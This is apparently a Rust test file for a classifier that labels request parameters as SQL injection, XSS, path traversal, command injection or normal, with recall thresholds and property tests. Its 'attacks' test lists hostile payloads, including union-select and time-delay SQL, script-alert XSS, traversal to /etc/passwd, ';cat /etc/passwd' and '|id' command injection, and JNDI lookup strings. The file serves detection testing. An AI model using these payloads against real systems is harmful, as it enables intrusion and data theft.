use std::collections::BTreeMap;

use proptest::prelude::*;

use super::*;

fn check(raw: &str, expected: &str) {
    let judged = judge(raw.as_bytes());
    assert_eq!(judged.verdict.name(), expected, "{raw} by {:?}", judged.rule);
}

/// The request that the joint advisory AA20-304A prints, which keyword rules miss, and the marks that the rules are for.
#[test]
fn attacks() {
    for (raw, expected) in [
        ("-1 or 3*2<(0+5+513-513) -- ", "sqli"),
        ("-1%20or%203*2%3c(0%2b5%2b513-513)%20--%20", "sqli"),
        ("-1+or+3*2<(0%2B5%2B513-513)+--+", "sqli"),
        ("1%2527%2520or%25201%253D1--", "sqli"),
        ("1' in boolean mode) order by 1#", "sqli"),
        ("1/**/union/**/all/**/select/**/null--", "sqli"),
        ("1;waitfor delay '0:0:5'", "sqli"),
        ("<script>alert(1)</script>", "xss"),
        ("&lt;img src=x onerror=alert(1)&gt;", "xss"),
        ("javascript:alert(1)", "xss"),
        ("..%252f..%252fetc%252fpasswd", "traversal"),
        ("%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afboot.ini", "traversal"),
        ("..\\..\\windows\\win.ini", "traversal"),
        (";cat /etc/passwd", "cmdi"),
        ("`uname`", "cmdi"),
        ("|id", "cmdi"),
        ("${jndi:ldap://x.example/a}", "cmdi"),
        ("${${lower:j}ndi:ldap://x.example/a}", "cmdi"),
    ] {
        check(raw, expected);
    }
}

/// Names and addresses with quotation marks, SQL's words, signs of shells, and other scripts.
#[test]
fn honest_values() {
    let table: Vec<_> = crate::tables::rows(include_str!("../../testdata/honest_values.tsv")).collect();
    assert!(table.len() >= 300, "{}", table.len());
    let wrong: Vec<String> = (table.iter().filter(|cells| judge(cells[1].as_bytes()) != NORM))
        .map(|cells| format!("{}: {:?}", cells[1], judge(cells[1].as_bytes())))
        .collect();
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), table.len(), wrong.join("\n"));
}

/// The half of HttpParamsDataset that lies in the shared folder. The bar of `injection` asks for a recall of .97.
#[test]
fn development_half() {
    let Some(file) = testkit::shared("data/intrusion/params.csv") else { return };
    let mut reader = csv::Reader::from_path(file).unwrap();
    let mut counts: BTreeMap<(String, &str), usize> = BTreeMap::new();
    let mut missed = Vec::new();
    for row in reader.byte_records() {
        let row = row.unwrap();
        let label = String::from_utf8_lossy(&row[2]).replace("path-", "");
        let judged = judge(&row[0]);
        if judged.verdict.name() != label {
            missed.push(format!(
                "{label}\t{}\t{}\t{}",
                judged.verdict.name(),
                judged.rule,
                String::from_utf8_lossy(&row[0])
            ));
        }
        *counts.entry((label, judged.verdict.name())).or_default() += 1;
    }
    if let Some(to) = std::env::var_os("INTERDICT_MISSED") {
        std::fs::write(to, missed.join("\n")).unwrap();
    }
    let of = |label: &str| -> usize { counts.iter().filter(|((l, _), _)| l == label).map(|(_, n)| n).sum() };
    let right =
        |label: &str| counts.iter().find(|((l, v), _)| l == label && *v == label).map_or(0, |(_, n)| *n);
    assert_eq!(right("norm"), of("norm"), "false positives");
    for (label, least) in [("sqli", 0.99), ("xss", 0.9), ("traversal", 0.9), ("cmdi", 0.7)] {
        let recall = right(label) as f64 / of(label) as f64;
        assert!(recall >= least, "{label}: {recall:.4}");
    }
}

proptest! {
    #[test]
    fn never_panics(raw in prop::collection::vec(any::<u8>(), 0..120)) {
        let _judged = judge(&raw);
    }

    /// Of the signs that code is made of.
    #[test]
    fn never_panics_on_code(raw in "[;|&`$(){}<>/.'\"\\\\=*#%+ a-z0-9:-]{0,60}") {
        let _judged = judge(raw.as_bytes());
    }

    /// Letters and blanks alone are never an attack, whatever they say; of SQL's own words there are none in a name of letters.
    #[test]
    fn words_are_text(raw in "[A-Z][a-z]{1,9}( [A-Z][a-z]{3,9}){0,3}") {
        let sql = ["union", "select", "null", "delay", "like", "exec"];
        prop_assume!(!sql.iter().any(|w| raw.to_lowercase().contains(w)));
        prop_assert_eq!(judge(raw.as_bytes()), NORM);
    }
}
